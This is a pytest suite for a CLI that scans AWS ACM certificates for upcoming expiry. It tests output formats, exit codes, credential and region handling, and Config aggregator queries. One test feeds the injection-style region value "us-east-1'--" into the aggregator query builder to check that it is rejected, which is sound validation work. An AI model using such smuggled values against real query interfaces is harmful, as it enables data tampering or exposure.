"""`acm-expiry scan`, run as a user runs it: a subprocess against `moto_server` on 127.0.0.1.

A few tests run the scan in process instead, behind the AWS doubles (conftest's ``aws``), for what
moto cannot show: access denied, throttling, the exact requests made, and agreement with the
rule's periodic run.
"""

from __future__ import annotations

import io
import itertools
import json
import os
import pty
import re
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import boto3
import pytest

from acm_expiry.edge import AwsEdge
from acm_expiry_cli import scan as scan_module
from acm_expiry_cli.main import main
from acm_expiry_cli.sample_events import scheduled_event
from tests.conftest import World, amazon_issued_record
from tests.support.doubles import THROTTLING, XmlAnswer, access_denied
from tests.support.inventory import import_certificate, synthetic_inventory
from tests.support.moto_server import MotoServerError, moto_server

BIN = Path(sys.executable).parent
CLI = [str(BIN / "acm-expiry")] if (BIN / "acm-expiry").exists() else [sys.executable, "-m", "acm_expiry_cli.main"]
US, EU, AP = "us-east-1", "eu-west-1", "ap-southeast-2"
ROW_KEYS = {"account", "region", "arn", "domain", "type", "keyAlgorithm", "inUse", "expires", "daysLeft", "verdict",
            "annotation"}  # fmt: skip

# (region, domain, key type, days until expiry); None: requested, still PENDING_VALIDATION.
SEED: list[tuple[str, str, str, float | None]] = [
    (US, "api.example.com", "EC_prime256v1", 5.05),
    (US, "www.example.com", "RSA_2048", 200.05),
    (US, "legacy.example.com", "EC_secp384r1", 20.05),
    (US, "vault.example.com", "EC_secp521r1", 365.05),
    (US, "new.example.com", "RSA_2048", None),
    (EU, "shop.example.eu", "RSA_2048", 10.05),
    (EU, "static.example.eu", "EC_prime256v1", 90.05),
    (AP, "calm.example.com", "EC_prime256v1", 120.05),
    (AP, "steady.example.com", "RSA_2048", 150.05),
]
EXPIRED = (EU, "old.example.eu", "EC_prime256v1")  # imported valid for 2 more seconds, then left to expire
US_EU_ORDER = [
    "old.example.eu",
    "api.example.com",
    "shop.example.eu",
    "legacy.example.com",
    "static.example.eu",
    "www.example.com",
    "vault.example.com",
    "new.example.com",
]
NON_COMPLIANT_US_EU = {"old.example.eu", "api.example.com", "shop.example.eu", "legacy.example.com"}


# --- moto_server and the subprocess ------------------------------------------------------------


@pytest.fixture(scope="module")
def endpoint() -> Iterator[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("AWS_")}
    env["MOTO_ACM_VALIDATION_WAIT"] = "86400"  # requested certificates stay PENDING_VALIDATION
    try:
        with moto_server(BIN / "moto_server", env) as url:
            yield url
    except MotoServerError as error:
        pytest.fail(str(error))


@dataclass
class Seeded:
    endpoint: str
    arns: dict[str, str]  # domain -> ARN
    files: Path  # empty AWS config and credentials files live here

    def env(self, **extra: str | None) -> dict[str, str]:
        """A clean environment: moto's endpoint, fake keys, no profile, region or instance metadata."""
        config, credentials = self.files / "config", self.files / "credentials"
        base = {
            "PATH": os.environ.get("PATH", ""),
            "PYTHONDONTWRITEBYTECODE": "1",  # no caches in ACMExpiryRule/, which RDK zips
            "HOME": str(self.files),
            "AWS_CONFIG_FILE": str(config),
            "AWS_SHARED_CREDENTIALS_FILE": str(credentials),
            "AWS_EC2_METADATA_DISABLED": "true",
            "AWS_ENDPOINT_URL": self.endpoint,
            "AWS_ACCESS_KEY_ID": "testing",
            "AWS_SECRET_ACCESS_KEY": "testing",
        }
        merged = base | extra
        return {k: v for k, v in merged.items() if v is not None}


@pytest.fixture(scope="module")
def seeded(endpoint: str, tmp_path_factory: pytest.TempPathFactory) -> Seeded:
    files = tmp_path_factory.mktemp("aws")
    (files / "config").write_text("")
    (files / "credentials").write_text("")
    now = datetime.now(UTC)

    def client(region: str) -> Any:
        return boto3.client(
            "acm",
            region_name=region,
            endpoint_url=endpoint,
            aws_access_key_id="testing",
            aws_secret_access_key="testing",
        )

    arns: dict[str, str] = {}
    region, domain, key_type = EXPIRED  # ACM refuses expired imports: import it first, let it lapse
    acm = client(region)  # made before the clock starts: a loaded machine takes a while
    expires = datetime.now(UTC) + timedelta(seconds=3)
    arns[domain] = import_certificate(acm, domain, key_type, expires, now)
    for region, domain, key_type, days in SEED:
        if days is None:
            arns[domain] = client(region).request_certificate(DomainName=domain, ValidationMethod="DNS")[
                "CertificateArn"
            ]
        else:
            arns[domain] = import_certificate(client(region), domain, key_type, now + timedelta(days=days), now)
    time.sleep(max(0.0, (expires - datetime.now(UTC)).total_seconds() + 1.0))
    return Seeded(endpoint, arns, files)


def run_cli(seeded: Seeded, *args: str, **env: str | None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*CLI, "scan", *args], env=seeded.env(**env), capture_output=True, text=True, timeout=60, check=False
    )


def scan_json(seeded: Seeded, *args: str, **env: str | None) -> tuple[int, dict[str, Any]]:
    result = run_cli(seeded, "--format", "json", *args, **env)
    assert result.stderr == ""
    return result.returncode, json.loads(result.stdout)


def assert_one_line_error(result: subprocess.CompletedProcess[str], *fragments: str) -> str:
    assert result.returncode == 1
    assert result.stdout == ""
    assert "Traceback" not in result.stderr
    assert result.stderr.count("\n") == 1 and result.stderr.startswith("acm-expiry scan: error: ")
    for fragment in fragments:
        assert fragment in result.stderr
    return result.stderr


# --- output ----------------------------------------------------------------------------------------


def regions_of(answer: dict[str, Any]) -> list[str]:
    return [place["region"] for place in answer["summary"]["byAccountRegion"]]


def test_table_has_one_row_per_certificate_sorted_by_days_left_in_120_columns(seeded: Seeded) -> None:
    result = run_cli(seeded, "--region", US, "--region", EU)
    assert result.returncode == 2
    assert result.stderr == ""  # stderr is not a terminal: no progress lines
    lines = result.stdout.splitlines()
    assert max(len(line) for line in lines) <= 120
    assert lines[0].split() == ["REGION", "DOMAIN", "TYPE", "EXPIRES", "DAYS", "VERDICT", "NOTE"]
    note = lines[0].index("NOTE")
    rows = [line for line in lines[2:] if line and not line.startswith(" ") and "certificate(s)" not in line]
    assert [row.split()[1] for row in rows] == US_EU_ORDER
    by_domain = {row.split()[1]: row for row in rows}
    api = by_domain["api.example.com"].split()
    assert api[:3] == [US, "api.example.com", "IMPORTED"] and re.fullmatch(r"\d{4}-\d{2}-\d{2}", api[3])
    assert api[4:6] == ["6", "NON_COMPLIANT"]  # 5.05 days left, rounded up
    # The note is the advice, wrapped under its column: what the date, days and verdict do not say.
    start = lines.index(by_domain["api.example.com"])
    continued = list(itertools.takewhile(lambda line: line.startswith(" "), lines[start + 1 :]))  # until the next row
    advice = " ".join(line[note:].strip() for line in [lines[start], *continued])
    assert advice.startswith("ACM never renews imported certificates: re-import a renewed one to the same ARN.")
    assert "Expired less than a day ago" in by_domain["old.example.eu"]
    assert by_domain["new.example.com"].split()[4:6] == ["-", "NOT_APPLICABLE"]  # no days: never issued
    # A COMPLIANT annotation says only what the columns say ("Expires on DATE, outside ..."): no note.
    compliant = [row for row in rows if row.split()[5] == "COMPLIANT"]
    assert compliant and all(row.split()[6:] == ["-"] for row in compliant)
    assert lines[-1] == (
        "8 certificate(s) in 2 region(s), 30-day window: 3 COMPLIANT, 4 NON_COMPLIANT, 1 NOT_APPLICABLE"
    )


def test_wide_shows_the_arn_and_the_whole_annotation(seeded: Seeded) -> None:
    result = run_cli(seeded, "--region", US, "--wide")
    lines = result.stdout.splitlines()
    assert {"KEY", "USE", "ARN"} <= set(lines[0].split()) and max(len(line) for line in lines) <= 200
    (at,) = [i for i, line in enumerate(lines) if "api.example.com" in line]
    assert lines[at].endswith(seeded.arns["api.example.com"])
    assert lines[at + 1].strip().startswith("Expires in 6 days (")  # the whole annotation, under the row
    assert lines[at + 1].endswith("ACM never renews imported certificates: re-import a renewed one to the same ARN.")


def test_wide_is_for_the_table(seeded: Seeded) -> None:
    result = run_cli(seeded, "--region", US, "--wide", "--format", "csv")
    assert_one_line_error(result, "--wide is for the table; --format csv always carries every field")


def test_json_has_the_window_the_scan_time_and_each_rows_account(seeded: Seeded) -> None:
    status, answer = scan_json(seeded, "--region", US, "--region", EU)
    assert status == 2
    assert set(answer) == {"window", "scannedAt", "source", "rows", "summary"}
    assert answer["window"] == 30
    scanned = datetime.strptime(answer["scannedAt"], "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=UTC)
    assert abs(scanned - datetime.now(UTC)) < timedelta(minutes=2)
    assert answer["source"] == f"ACM in account 123456789012: {US}, {EU}"
    assert answer["summary"] | {"byAccountRegion": None} == {
        "certificates": 8,
        "COMPLIANT": 3,
        "NON_COMPLIANT": 4,
        "NOT_APPLICABLE": 1,
        "byAccountRegion": None,
    }
    assert answer["summary"]["byAccountRegion"] == [
        {"account": "123456789012", "region": EU, "COMPLIANT": 1, "NON_COMPLIANT": 2, "NOT_APPLICABLE": 0},
        {"account": "123456789012", "region": US, "COMPLIANT": 2, "NON_COMPLIANT": 2, "NOT_APPLICABLE": 1},
    ]
    rows = answer["rows"]
    assert all(set(row) == ROW_KEYS for row in rows)
    assert [row["domain"] for row in rows] == US_EU_ORDER
    days = [row["daysLeft"] for row in rows]
    assert days[-1] is None and days[:-1] == sorted(days[:-1])
    assert all(row["account"] == "123456789012" and row["arn"].split(":")[3] == row["region"] for row in rows)
    legacy = next(row for row in rows if row["domain"] == "legacy.example.com")
    assert legacy | {"arn": "-", "expires": "-", "annotation": "-"} == {
        "account": "123456789012",
        "region": US,
        "arn": "-",
        "domain": "legacy.example.com",
        "type": "IMPORTED",
        "keyAlgorithm": "EC_secp384r1",
        "inUse": False,
        "expires": "-",
        "daysLeft": 21,  # 20.05 days: rounded up
        "verdict": "NON_COMPLIANT",
        "annotation": "-",
    }
    expires = datetime.strptime(legacy["expires"], "%Y-%m-%dT%H:%M:%S%z")
    assert timedelta(days=19) < expires - datetime.now(UTC) < timedelta(days=21)
    assert legacy["annotation"].startswith(f"Expires in 21 days ({expires:%Y-%m-%d}), within the 30-day window.")
    assert {row["keyAlgorithm"] for row in rows} == {"EC_prime256v1", "EC_secp384r1", "EC_secp521r1", "RSA_2048"}


def test_csv_and_html_reports_go_to_a_file(seeded: Seeded, tmp_path: Path) -> None:
    import csv
    from html.parser import HTMLParser

    target = tmp_path / "report.csv"
    result = run_cli(seeded, "--region", US, "--region", EU, "--format", "csv", "--output", str(target))
    assert (result.returncode, result.stdout) == (2, "")
    assert result.stderr == f"acm-expiry scan: 8 row(s) written to {target}\n"
    raw = target.read_bytes()
    assert raw.count(b"\r\n") == 9  # RFC 4180 line ends: a header and eight records
    header, *records = list(csv.reader(raw.decode().splitlines()))
    assert header == ["account", "region", "arn", "domain", "type", "key_algorithm", "in_use", "expires",
                      "days_left", "verdict", "annotation"]  # fmt: skip
    assert [r[3] for r in records] == US_EU_ORDER
    assert all(r[10] and "…" not in r[10] for r in records)
    assert b'"old.example.eu","IMPORTED"' in raw and b',0,"NON_COMPLIANT",' in raw  # text quoted, days a number

    page = tmp_path / "report.html"
    assert run_cli(seeded, "--region", US, "--region", EU, "--format", "html", "--output", str(page)).returncode == 2

    class Tags(HTMLParser):
        def __init__(self) -> None:
            super().__init__()
            self.seen: list[str] = []

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            self.seen.append(tag)

    parsed = Tags()
    parsed.feed(page.read_text())
    assert parsed.seen.count("script") == 1 and parsed.seen.count("svg") == 1
    assert parsed.seen.count("tr") == 1 + 8 and parsed.seen.count("table") == 1  # one account: one table


def test_only_noncompliant_shows_those_and_keeps_the_exit_status(seeded: Seeded) -> None:
    status, answer = scan_json(seeded, "--region", US, "--region", EU, "--only-noncompliant")
    assert status == 2
    assert [row["domain"] for row in answer["rows"]] == [d for d in US_EU_ORDER if d in NON_COMPLIANT_US_EU]
    assert answer["source"].endswith("(NON_COMPLIANT only)")
    assert (answer["summary"]["certificates"], answer["summary"]["shown"]) == (8, 4)  # the whole scan, counted

    table = run_cli(seeded, "--region", US, "--only-noncompliant")
    assert table.returncode == 2
    assert "  COMPLIANT  " not in table.stdout
    assert table.stdout.splitlines()[-1].endswith("2 COMPLIANT, 2 NON_COMPLIANT, 1 NOT_APPLICABLE; 2 shown")


def test_a_region_without_certificates_is_counted(seeded: Seeded) -> None:
    result = run_cli(seeded, "--region", AP, "--region", "ca-central-1")
    assert result.stdout.splitlines()[-1].startswith("2 certificate(s) in 2 region(s)")


def test_exit_0_when_nothing_is_noncompliant(seeded: Seeded) -> None:
    status, answer = scan_json(seeded, "--region", AP)
    assert status == 0
    assert [row["domain"] for row in answer["rows"]] == ["calm.example.com", "steady.example.com"]
    assert answer["summary"]["byAccountRegion"] == [
        {"account": "123456789012", "region": AP, "COMPLIANT": 2, "NON_COMPLIANT": 0, "NOT_APPLICABLE": 0}
    ]
    assert run_cli(seeded, "--region", AP, "--only-noncompliant").returncode == 0


@pytest.mark.parametrize(("region", "days", "status"), [(US, "3", 0), (US, " 30 ", 2), (AP, "3650", 2), (AP, "120", 0)])
def test_days_moves_the_window(seeded: Seeded, region: str, days: str, status: int) -> None:
    assert run_cli(seeded, "--region", region, "--days", days).returncode == status


def test_a_region_repeated_is_scanned_once(seeded: Seeded) -> None:
    _, answer = scan_json(seeded, "--region", AP, "--region", AP)
    assert len(answer["rows"]) == 2 and regions_of(answer) == [AP]


# --- where the region and credentials come from ---------------------------------------------------


@pytest.mark.parametrize(
    ("env", "region"),
    [
        ({"AWS_REGION": EU}, EU),
        ({"AWS_DEFAULT_REGION": AP}, AP),
        ({"AWS_REGION": EU, "AWS_DEFAULT_REGION": AP}, EU),
    ],
    ids=["AWS_REGION", "AWS_DEFAULT_REGION", "AWS_REGION-first"],
)
def test_default_region_from_the_environment(seeded: Seeded, env: dict[str, str], region: str) -> None:
    _, answer = scan_json(seeded, **env)
    assert regions_of(answer) == [region]
    assert {row["region"] for row in answer["rows"]} == {region}


def test_profile_gives_credentials_and_region(seeded: Seeded, tmp_path: Path) -> None:
    (tmp_path / "config").write_text(f"[profile seeded]\nregion = {EU}\n")
    (tmp_path / "credentials").write_text("[seeded]\naws_access_key_id = testing\naws_secret_access_key = testing\n")
    files = {
        "AWS_CONFIG_FILE": str(tmp_path / "config"),
        "AWS_SHARED_CREDENTIALS_FILE": str(tmp_path / "credentials"),
        "AWS_ACCESS_KEY_ID": None,
        "AWS_SECRET_ACCESS_KEY": None,
    }
    for how in (["--profile", "seeded"], []):
        env = files if how else files | {"AWS_PROFILE": "seeded"}
        _, answer = scan_json(seeded, *how, **env)
        assert regions_of(answer) == [EU]
        assert {row["domain"] for row in answer["rows"]} == {"shop.example.eu", "static.example.eu", "old.example.eu"}
    _, answer = scan_json(seeded, "--profile", "seeded", **files, AWS_DEFAULT_REGION=AP)
    assert regions_of(answer) == [AP]  # the environment beats the profile, as in the AWS CLI


# --- errors: exit 1, one line, no traceback ---------------------------------------------------------


def test_no_credentials(seeded: Seeded) -> None:
    result = run_cli(seeded, "--region", US, AWS_ACCESS_KEY_ID=None, AWS_SECRET_ACCESS_KEY=None)
    assert_one_line_error(result, "no AWS credentials found")


@pytest.mark.parametrize("source", ["--profile", "AWS_PROFILE"])
def test_profile_not_found(seeded: Seeded, source: str) -> None:
    if source == "--profile":
        result = run_cli(seeded, "--region", US, "--profile", "nowhere")
    else:
        result = run_cli(seeded, "--region", US, AWS_PROFILE="nowhere")
    assert_one_line_error(result, "AWS profile 'nowhere'", f"(from {source}) not found")


def test_unknown_region_is_named(seeded: Seeded) -> None:
    result = run_cli(seeded, "--region", US, "--region", "us-eats-1")
    assert_one_line_error(result, "unknown region 'us-eats-1'", "did you mean us-east-1?")
    assert_one_line_error(run_cli(seeded, "--region", "mars-north-1"), "unknown region 'mars-north-1'")


def test_no_region_configured(seeded: Seeded) -> None:
    assert_one_line_error(run_cli(seeded), "no region: pass --region, set AWS_REGION or AWS_DEFAULT_REGION")


def test_version() -> None:
    result = subprocess.run([*CLI, "--version"], capture_output=True, text=True, timeout=60, check=False)
    assert (result.returncode, result.stdout, result.stderr) == (0, "acm-expiry 0.1.0\n", "")


@pytest.mark.parametrize("command", [[], ["scan"], ["demo"]])
@pytest.mark.parametrize("columns", [80, 100])
def test_help_is_wrapped_to_the_terminal(command: list[str], columns: int) -> None:
    env = {"PATH": os.environ.get("PATH", ""), "COLUMNS": str(columns)}
    result = subprocess.run([*CLI, *command, "--help"], env=env, capture_output=True, text=True, timeout=60,
                            check=False)  # fmt: skip
    assert result.returncode == 0 and result.stderr == ""
    assert max(len(line) for line in result.stdout.splitlines()) <= columns
    if command == ["scan"]:
        words = " ".join(result.stdout.split())
        for explained in (
            "table (default): for a terminal",
            "csv: for spreadsheets",
            "json: for programs",
            "html: one self-contained page",
            "Exit status: 0 when no certificate is NON_COMPLIANT",
        ):
            assert explained in words  # fmt: skip


@pytest.mark.parametrize("days", ["abc", "0", "3651", "1.5", "-5", ""])
def test_invalid_days(seeded: Seeded, days: str) -> None:
    result = run_cli(seeded, "--region", US, "--days", days)
    assert_one_line_error(result, f"--days {days!r} is not valid", "from 1 to 3650")


def test_usage_errors_exit_1_not_2(seeded: Seeded) -> None:
    """2 means "something is NON_COMPLIANT": argparse's own status 2 would lie to a script."""
    result = run_cli(seeded, "--region", US, "--format", "xml")
    assert_one_line_error(result, "argument --format: invalid choice: 'xml'")


def test_progress_goes_to_stderr_only_on_a_terminal(seeded: Seeded) -> None:
    controller, terminal = pty.openpty()
    try:
        result = subprocess.run(
            [*CLI, "scan", "--region", AP, "--region", EU, "--format", "json"],
            env=seeded.env(),
            stdout=subprocess.PIPE,
            stderr=terminal,
            text=True,
            timeout=60,
            check=False,
        )
        os.close(terminal)
        terminal = -1
        chunks = []
        while True:
            try:
                chunk = os.read(controller, 4096)
            except OSError:  # EIO: the terminal's other end is closed and drained
                break
            if not chunk:
                break
            chunks.append(chunk)
    finally:
        if terminal >= 0:
            os.close(terminal)
        os.close(controller)
    progress = b"".join(chunks).decode()
    assert result.returncode == 2
    assert set(regions_of(json.loads(result.stdout))) == {AP, EU}  # stdout stays clean JSON
    assert f"scanning 2 region(s): {AP}, {EU}" in progress
    assert f"{AP}: 2 certificate(s)" in progress and f"{EU}: 3 certificate(s)" in progress


# --- in process, behind the doubles -----------------------------------------------------------------


@pytest.fixture
def doubled(aws: World) -> World:
    """`scan` in this process, its sessions behind the same doubles as the handler's (see ``run_main``)."""
    return aws


def run_main(world: World, argv: list[str]) -> int:
    return main(argv, new_session=world.doubles.session)


def amazon_issued_in_window(aws: World) -> dict[str, Any]:
    return amazon_issued_record(aws.now, "amazon-1", {"RenewalStatus": "FAILED", "RenewalStatusReason": "CAA_ERROR"})


@pytest.mark.parametrize("operation", ["ListCertificates", "DescribeCertificate"])
def test_access_denied_names_the_missing_permission(
    doubled: World, capsys: pytest.CaptureFixture[str], operation: str
) -> None:
    doubled.acm.source = lambda region: [amazon_issued_in_window(doubled)]
    doubled.doubles.faults.add(f"acm.{operation}", access_denied(f"acm:{operation}"))
    status = run_main(doubled, ["scan", "--region", US])
    out, err = capsys.readouterr()
    assert (status, out) == (1, "")
    assert err.count("\n") == 1
    assert err.startswith(
        f"acm-expiry scan: error: {US}: access denied: {operation} needs IAM permission acm:{operation}"
    )
    assert "is not authorized to perform" in err


def test_scan_is_read_only_and_lists_every_key_type(doubled: World, capsys: pytest.CaptureFixture[str]) -> None:
    inventory = synthetic_inventory(1200, doubled.now)
    doubled.acm.source = lambda region: inventory
    status = run_main(doubled, ["scan", "--format", "json"])  # region from AWS_REGION
    answer = json.loads(capsys.readouterr().out)
    assert status == 2
    assert len(answer["rows"]) == 1200
    operations = {name for name, _ in doubled.doubles.requests}
    assert operations <= {"acm.ListCertificates", "acm.DescribeCertificate"}
    assert doubled.config.put_calls == [] and not doubled.doubles.calls("config.PutEvaluations")
    pages = doubled.doubles.calls("acm.ListCertificates")
    assert len(pages) == 3 and all(page["MaxItems"] == 1000 for page in pages)  # 2 pages + the N2 listing
    assert len(pages[0]["Includes"]["keyTypes"]) == 7


def test_scan_agrees_with_the_rules_periodic_run(doubled: World) -> None:
    inventory = [*synthetic_inventory(400, doubled.now), amazon_issued_in_window(doubled)]
    doubled.acm.source = lambda region: inventory
    edge = AwsEdge(doubled.doubles.session())
    results = scan_module.scan_regions(edge, [US], 30, None, doubled.now, io.StringIO())
    doubled.run(scheduled_event(doubled.now))
    rule = {e["ComplianceResourceId"]: (e["ComplianceType"], e["Annotation"]) for e in doubled.config.sent}
    cli = {a.certificate.arn: (str(a.verdict.compliance), a.verdict.annotation) for a in results[US]}
    assert cli == rule
    assert "ACM renewal is FAILED (CAA_ERROR)" in cli[amazon_issued_in_window(doubled)["CertificateArn"]][1]


def test_throttling_is_ridden_out(doubled: World, capsys: pytest.CaptureFixture[str]) -> None:
    arn = import_certificate(doubled.client("acm"), "t.example.com", "EC_prime256v1", doubled.now + timedelta(days=90))
    doubled.doubles.faults.add("acm.ListCertificates", THROTTLING, THROTTLING, THROTTLING)
    assert run_main(doubled, ["scan", "--format", "json"]) == 0
    assert [row["arn"] for row in json.loads(capsys.readouterr().out)["rows"]] == [arn]
    assert len(doubled.clock.sleeps) == 3


# --- --exempt-tag, --all-regions, --aggregator ---------------------------------------------------------


def test_exempt_tag_makes_tagged_certificates_not_applicable(
    doubled: World, capsys: pytest.CaptureFixture[str]
) -> None:
    inventory = synthetic_inventory(120, doubled.now)
    for record in inventory[:30]:
        record["Tags"] = [{"Key": "acm-expiry-exempt", "Value": "lab only"}]
    doubled.acm.source = lambda region: inventory
    run_main(doubled, ["scan", "--format", "json", "--exempt-tag", "acm-expiry-exempt"])
    rows = {row["arn"]: row for row in json.loads(capsys.readouterr().out)["rows"]}
    for record in inventory[:30]:
        row = rows[record["CertificateArn"]]
        assert (row["verdict"], row["annotation"]) == ("NOT_APPLICABLE", "Exempt by tag acm-expiry-exempt: lab only")
    (query,) = doubled.doubles.calls("resourcegroupstaggingapi.GetResources")
    assert query["TagFilters"] == [{"Key": "acm-expiry-exempt"}] and query["ResourcesPerPage"] == 100


def serve_regions(aws: World, enabled: list[str]) -> None:
    """EC2 DescribeRegions as AWS answers it without AllRegions: the account's enabled regions only."""

    def ec2(operation: str, params: dict[str, Any]) -> XmlAnswer:
        assert operation == "DescribeRegions" and "AllRegions" not in params
        items = "".join(
            f"<item><regionName>{r}</regionName><regionEndpoint>ec2.{r}.amazonaws.com</regionEndpoint>"
            "<optInStatus>opted-in</optInStatus></item>"
            for r in enabled
        )
        return XmlAnswer(f"<DescribeRegionsResponse><requestId>r</requestId><regionInfo>{items}</regionInfo>"
                         "</DescribeRegionsResponse>")  # fmt: skip

    aws.doubles.serve("ec2", ec2)


def test_all_regions_scans_the_accounts_enabled_regions(doubled: World, capsys: pytest.CaptureFixture[str]) -> None:
    serve_regions(doubled, [EU, "me-central-1", US])
    doubled.acm.source = lambda region: synthetic_inventory(3, doubled.now, region=region)
    status = run_main(doubled, ["scan", "--all-regions", "--format", "json"])
    answer = json.loads(capsys.readouterr().out)
    assert status in (0, 2)
    assert sorted(regions_of(answer)) == [EU, "me-central-1", US]
    assert answer["source"].endswith(f": {EU}, me-central-1, {US}")
    listed = {r for r, _ in [(p.get("_region"), p) for p in doubled.doubles.calls("acm.ListCertificates")]}
    assert len(doubled.doubles.calls("ec2.DescribeRegions")) == 1 and listed


def test_all_regions_without_permission_names_it(doubled: World, capsys: pytest.CaptureFixture[str]) -> None:
    doubled.doubles.faults.add("ec2.DescribeRegions", access_denied("ec2:DescribeRegions"))
    assert run_main(doubled, ["scan", "--all-regions"]) == 1
    assert "access denied: DescribeRegions needs IAM permission ec2:DescribeRegions" in capsys.readouterr().err


ORG = "111111111111", "222222222222", "333333333333"


def seed_aggregator(aws: World, per_place: int = 50) -> list[dict[str, Any]]:
    """What an organization's aggregator collects: certificates of three accounts in two regions."""
    records = []
    for account in ORG:
        for region in (US, EU):
            for described in synthetic_inventory(
                per_place, aws.now, region=region, account_id=account, seed=len(records)
            ):
                records.append(
                    {
                        "accountId": account,
                        "awsRegion": region,
                        "resourceId": described["CertificateArn"],
                        "resourceType": "AWS::ACM::Certificate",
                        "configuration": recorded_configuration(described),
                        "tags": [{"key": "team", "value": "web", "tag": "team=web"}],
                    }
                )
    aws.config.aggregators["org"] = records
    return records


def recorded_configuration(described: dict[str, Any]) -> dict[str, Any]:
    """What Config records for an ACM certificate: camelCase, ISO dates."""
    configuration = {
        "certificateArn": described["CertificateArn"],
        "domainName": described["DomainName"],
        "status": described["Status"],
        "type": described["Type"],
        "keyAlgorithm": described["KeyAlgorithm"].replace("_", "-", 1),
        "renewalEligibility": described["RenewalEligibility"],
        "inUseBy": ["arn:aws:elasticloadbalancing:us-east-1:1:loadbalancer/x"] if described["InUse"] else [],
    }
    if "NotAfter" in described:
        configuration["notAfter"] = datetime.fromtimestamp(described["NotAfter"], UTC).strftime(
            "%Y-%m-%dT%H:%M:%S.000Z"
        )
    if "RenewalSummary" in described:
        summary = described["RenewalSummary"]
        configuration["renewalSummary"] = {"renewalStatus": summary["RenewalStatus"]} | (
            {"renewalStatusReason": summary["RenewalStatusReason"]} if "RenewalStatusReason" in summary else {}
        )
    return configuration


def test_aggregator_scan_reads_every_page_and_judges_every_certificate(
    doubled: World, capsys: pytest.CaptureFixture[str]
) -> None:
    records = seed_aggregator(doubled)
    status = run_main(doubled, ["scan", "--aggregator", "org", "--format", "json"])
    answer = json.loads(capsys.readouterr().out)
    queries = doubled.doubles.calls("config.SelectAggregateResourceConfig")
    assert [q["Expression"] for q in queries] == [
        "SELECT accountId, awsRegion, resourceId, configuration, tags WHERE resourceType = 'AWS::ACM::Certificate'"
    ] * 3
    assert all(q["Limit"] == 100 and q["ConfigurationAggregatorName"] == "org" for q in queries)
    assert [bool(q.get("NextToken")) for q in queries] == [False, True, True]  # 300 results, 100 a page
    rows = answer["rows"]
    assert len(rows) == len(records) == 300 and answer["source"] == "Config aggregator org"
    assert {(r["account"], r["region"]) for r in rows} == {(a, r) for a in ORG for r in (US, EU)}
    assert status == 2
    # The same verdict core as the rule: every row's words equal judging its record directly.
    from acm_expiry.certificate import Certificate
    from acm_expiry.verdict import judge

    for record, row in zip(sorted(records, key=lambda r: r["resourceId"]), sorted(rows, key=lambda r: r["arn"]),
                           strict=True):  # fmt: skip
        verdict = judge(Certificate.from_configuration_item(record), doubled.now, 30)
        assert (row["verdict"], row["annotation"], row["daysLeft"]) == (
            str(verdict.compliance),
            verdict.annotation,
            verdict.days_left,
        )
    assert not [name for name, _ in doubled.doubles.requests if name.startswith("acm.")]  # no member account's ACM


def test_aggregator_scan_narrowed_to_accounts_and_regions(doubled: World, capsys: pytest.CaptureFixture[str]) -> None:
    seed_aggregator(doubled, per_place=5)
    argv = ["scan", "--aggregator", "org", "--account", ORG[1], "--account", ORG[2], "--region", EU, "--format", "json"]
    run_main(doubled, argv)
    answer = json.loads(capsys.readouterr().out)
    (query,) = doubled.doubles.calls("config.SelectAggregateResourceConfig")
    assert query["Expression"] == (
        "SELECT accountId, awsRegion, resourceId, configuration, tags WHERE resourceType = 'AWS::ACM::Certificate' "
        f"AND accountId IN ('{ORG[1]}', '{ORG[2]}') AND awsRegion IN ('{EU}')"
    )
    assert {(r["account"], r["region"]) for r in answer["rows"]} == {(ORG[1], EU), (ORG[2], EU)}
    assert len(answer["rows"]) == 10


def test_aggregator_scan_reads_tags_for_exemptions(doubled: World, capsys: pytest.CaptureFixture[str]) -> None:
    records = seed_aggregator(doubled, per_place=2)
    records[0]["tags"].append({"key": "acm-expiry-exempt", "value": "migrating", "tag": "acm-expiry-exempt=migrating"})
    run_main(doubled, ["scan", "--aggregator", "org", "--exempt-tag", "acm-expiry-exempt", "--format", "json"])
    rows = {r["arn"]: r for r in json.loads(capsys.readouterr().out)["rows"]}
    assert rows[records[0]["resourceId"]]["annotation"] == "Exempt by tag acm-expiry-exempt: migrating"
    assert doubled.doubles.calls("resourcegroupstaggingapi.GetResources") == []  # the tags come with the query


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["--aggregator", "nope"], "no Config aggregator 'nope' in us-east-1"),
        (["--aggregator", "org", "--account", "12345"], "--account '12345' is not a 12-digit AWS account id"),
        (["--aggregator", "org", "--region", "us-east-1'--"], 'unknown region "us-east-1\'--"'),
        (["--account", ORG[0]], "--account needs --aggregator"),
        (["--aggregator", "org", "--all-regions"], "--all-regions is for a direct scan"),
    ],
)
def test_aggregator_mistakes_are_named(
    doubled: World, capsys: pytest.CaptureFixture[str], argv: list[str], message: str
) -> None:
    seed_aggregator(doubled, per_place=1)
    assert run_main(doubled, ["scan", *argv]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and message in err


def test_aggregator_access_denied_names_the_permission(doubled: World, capsys: pytest.CaptureFixture[str]) -> None:
    seed_aggregator(doubled, per_place=1)
    doubled.doubles.faults.add(
        "config.SelectAggregateResourceConfig", access_denied("config:SelectAggregateResourceConfig")
    )
    assert run_main(doubled, ["scan", "--aggregator", "org"]) == 1
    assert "needs IAM permission config:SelectAggregateResourceConfig" in capsys.readouterr().err


def test_aggregator_refuses_an_unknown_region_before_querying(
    doubled: World, capsys: pytest.CaptureFixture[str]
) -> None:
    """A mistyped region would narrow the query to nothing: "0 certificates" and exit 0, an all-clear."""
    seed_aggregator(doubled, per_place=1)
    assert run_main(doubled, ["scan", "--aggregator", "org", "--region", "us-easst-1"]) == 1
    out, err = capsys.readouterr()
    assert out == "" and err.count("\n") == 1
    assert "unknown region 'us-easst-1': botocore knows no ACM endpoint there (did you mean us-east-1?)" in err
    assert doubled.doubles.calls("config.SelectAggregateResourceConfig") == []


def test_aggregator_refuses_an_unknown_home_region(
    doubled: World, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    seed_aggregator(doubled, per_place=1)
    monkeypatch.setenv("AWS_REGION", "eu-wset-1")
    assert run_main(doubled, ["scan", "--aggregator", "org"]) == 1
